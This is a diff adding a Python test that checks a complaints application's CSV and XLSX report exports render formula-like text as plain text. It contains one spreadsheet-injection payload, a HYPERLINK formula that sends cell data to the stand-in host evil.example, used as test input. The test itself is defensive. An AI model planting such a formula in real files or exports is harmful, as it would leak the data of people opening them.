@@ -196,3 +196,27 @@ def _xlsx_text(book: Workbook) -> str:
         for cell in row
         if cell is not None
     )
+
+
+def test_a_typed_formula_stays_text_in_csv_and_xlsx():
+    """A decline motivation or category name that starts like a formula is not run by
+    the spreadsheet program that opens the download."""
+    from io import BytesIO
+
+    from openpyxl import load_workbook
+
+    from klachtpad.domain.reporting import Period
+    from klachtpad.reports.exports import report_csv, report_xlsx
+    from klachtpad.reports.report import Explained
+    from klachtpad.reports.sections import Row, Section
+
+    hostile = '=HYPERLINK("https://evil.example/?"&A1,"klik")'
+    sections = [Section("categories", "Categorieën", [Row("=1+1", 2, 1), Row("@SUM(A1)", 1, 0)])]
+    declined = [Explained("2026-0001", hostile), Explained("2026-0002", "-2+3")]
+    period = Period.year(2026)
+    text = report_csv(sections, [], declined, period).decode("utf-8-sig")
+    assert "'=HYPERLINK" in text and ";'=1+1;" in text and "'@SUM" in text and "'-2+3" in text
+    book = load_workbook(BytesIO(report_xlsx(sections, [], declined, period, "Rapport")))
+    cells = [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert hostile in [cell.value for cell in cells]
